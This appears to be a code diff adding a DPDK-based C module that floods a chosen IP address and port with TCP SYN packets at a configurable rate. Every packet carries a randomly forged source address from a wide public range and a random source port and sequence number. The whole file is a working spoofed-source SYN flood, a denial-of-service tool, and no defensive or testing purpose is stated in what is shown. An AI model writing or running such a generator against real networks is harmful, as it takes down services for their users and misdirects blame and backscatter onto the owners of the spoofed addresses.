@@ -1,0 +1,88 @@
+// SPDX-License-Identifier: BSD-3-Clause
+#include "flood.h"
+#include <arpa/inet.h>
+#include <string.h>
+#include <rte_ethdev.h>
+#include <rte_ether.h>
+#include <rte_ip.h>
+#include <rte_mbuf.h>
+#include <rte_tcp.h>
+
+#define BURST 32
+
+static struct {
+    struct rte_mempool *pool;
+    uint32_t address;
+    uint16_t port;
+    uint64_t per_second, sent, began, chance;
+} flood;
+
+static uint64_t chance(void)
+{
+    flood.chance ^= flood.chance << 13; /* xorshift64 (Marsaglia 2003) */
+    flood.chance ^= flood.chance >> 7;
+    flood.chance ^= flood.chance << 17;
+    return flood.chance;
+}
+
+bool flood_init(uint32_t address_be, uint16_t port_be, uint64_t per_second)
+{
+    flood.pool = rte_pktmbuf_pool_create("flood", 4095, 64, 0, RTE_MBUF_DEFAULT_BUF_SIZE, SOCKET_ID_ANY);
+    flood.address = address_be;
+    flood.port = port_be;
+    flood.per_second = per_second;
+    flood.chance = UINT64_C(88172645463325252);
+    return flood.pool != NULL;
+}
+
+uint64_t flood_sent(void)
+{
+    return flood.sent;
+}
+
+/* From anywhere in 64.0.0.0/8 to 95.0.0.0/8. */
+static struct rte_mbuf *forge(void)
+{
+    static const uint8_t mss[4] = {2, 4, 5, 0xb4};
+    struct rte_mbuf *m = rte_pktmbuf_alloc(flood.pool);
+    if (!m)
+        return NULL;
+    uint64_t r = chance(), q = chance();
+    struct rte_ether_hdr *eth = (struct rte_ether_hdr *)rte_pktmbuf_append(m, 14 + 20 + 24);
+    struct rte_ipv4_hdr *ip = (struct rte_ipv4_hdr *)(eth + 1);
+    struct rte_tcp_hdr *th = (struct rte_tcp_hdr *)(ip + 1);
+    rte_ether_unformat_addr(FLOOD_TARGET_MAC, &eth->dst_addr);
+    rte_eth_macaddr_get(0, &eth->src_addr);
+    eth->ether_type = htons(RTE_ETHER_TYPE_IPV4);
+    *ip = (struct rte_ipv4_hdr){.version_ihl = 0x45,
+                                .total_length = htons(44),
+                                .time_to_live = 64,
+                                .next_proto_id = IPPROTO_TCP,
+                                .src_addr = htonl(0x40000000 | ((uint32_t)r & 0x1fffffff)),
+                                .dst_addr = flood.address};
+    *th = (struct rte_tcp_hdr){.src_port = (uint16_t)((r >> 32) | 1),
+                               .dst_port = flood.port,
+                               .sent_seq = (uint32_t)q,
+                               .data_off = 6 << 4,
+                               .tcp_flags = RTE_TCP_SYN_FLAG,
+                               .rx_win = htons(65535)};
+    memcpy(th + 1, mss, sizeof(mss));
+    ip->hdr_checksum = rte_ipv4_cksum(ip);
+    th->cksum = rte_ipv4_udptcp_cksum(ip, th);
+    return m;
+}
+
+void flood_turn(uint64_t now)
+{
+    struct rte_mbuf *burst[BURST];
+    if (!flood.began)
+        flood.began = now;
+    uint64_t due = (uint64_t)((double)(now - flood.began) * 1e-9 * (double)flood.per_second) - flood.sent;
+    uint16_t n = 0;
+    while (n < BURST && n < due && (burst[n] = forge()) != NULL)
+        n++;
+    uint16_t sent = n ? rte_eth_tx_burst(0, 0, burst, n) : 0;
+    flood.sent += n; /* what the port did not take was sent in vain */
+    while (sent < n)
+        rte_pktmbuf_free(burst[sent++]);
+}
